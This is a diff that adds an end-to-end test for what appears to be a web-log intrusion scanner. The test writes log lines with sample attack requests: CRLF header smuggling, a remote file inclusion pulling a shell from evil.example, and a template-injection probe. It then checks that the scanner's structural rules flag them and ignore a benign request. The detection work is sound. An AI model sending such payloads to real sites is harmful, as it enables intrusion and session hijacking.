@@ -398,3 +398,42 @@ Test(e2e, probing_for_absent_applications_is_reported)
         alerts++;
     cr_assert_eq(alerts, 2, "only the two probes, not the site's own pages: %s", r.out);
 }
+
+/* The structural readers through the binary with no signatures at all: HTTP's grammar
+ * (a version that does not exist, a header smuggled through a parameter), a parameter
+ * read as a pair, template code; an everyday request stays quiet. */
+Test(e2e, structural_readers_without_signatures)
+{
+    FILE *f = fopen(path_of("empty-web.yml"), "w");
+    cr_assert_not_null(f);
+    fputs("signatures: []\n", f);
+    fclose(f);
+    f = fopen(path_of("readers.log"), "w");
+    cr_assert_not_null(f);
+    fputs("203.0.113.9 - - [21/Nov/2026:10:00:01 +0900] \"GET /index.php HTTP/1.7\" 200 5 \"-\" "
+          "\"Mozilla/5.0\"\n",
+          f);
+    fputs("203.0.113.9 - - [21/Nov/2026:10:00:02 +0900] \"GET /index.php?lang=en%0d%0aSet-Cookie:"
+          "%20sid=1 HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
+          f);
+    fputs("203.0.113.9 - - [21/Nov/2026:10:00:03 +0900] \"GET /index.php?page=http%3A%2F%2F"
+          "evil.example%2Fshell HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
+          f);
+    fputs("203.0.113.9 - - [21/Nov/2026:10:00:04 +0900] \"GET /search?q=%7B%7Bconfig.items()%7D%7D"
+          " HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n",
+          f);
+    fputs("198.51.100.7 - - [21/Nov/2026:10:00:05 +0900] \"GET /search?q=%u6771%u4EAC&utm_campaign="
+          "%7B%7Bcampaign.name%7D%7D HTTP/1.1\" 200 5 \"https://www.google.co.jp/\" "
+          "\"Mozilla/5.0\"\n",
+          f);
+    fclose(f);
+    result r;
+    run(&r, "scan --output json --no-rules --web-signatures empty-web.yml readers.log");
+    cr_assert_eq(r.status, 1, "%s", r.err);
+    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-protocol\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"field\":\"protocol\",\"value\":\"HTTP/1.7\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"line\":2,\"field\":\"query\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-rfi\""), "%s", r.out);
+    cr_assert_not_null(strstr(r.out, "\"rule\":\"struct-script\""), "%s", r.out);
+    cr_assert_null(strstr(r.out, "\"line\":5"), "the everyday request alarmed: %s", r.out);
+}
